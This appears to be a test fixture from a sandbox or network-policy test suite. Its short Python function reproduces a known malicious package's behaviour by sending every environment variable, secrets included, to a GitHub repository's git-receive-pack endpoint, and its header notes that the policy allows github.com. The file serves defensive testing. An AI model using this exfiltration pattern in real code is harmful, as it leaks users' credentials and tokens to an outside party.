# act: commits environment and .env to a repository of its own
# source: ossf/malicious-packages#1299
# when: path_file
# rule: outbound_connectivity
# asks: connect github.com:443
# says: github.com
# proof: arrived
# to: github.com
# realistic: the policy allows github.com to the whole process
import os

from . import incident


def act():
    url = "https://github.com/someone/a-mini-dump.git/git-receive-pack"
    incident.https(url, repr(dict(os.environ)).encode())
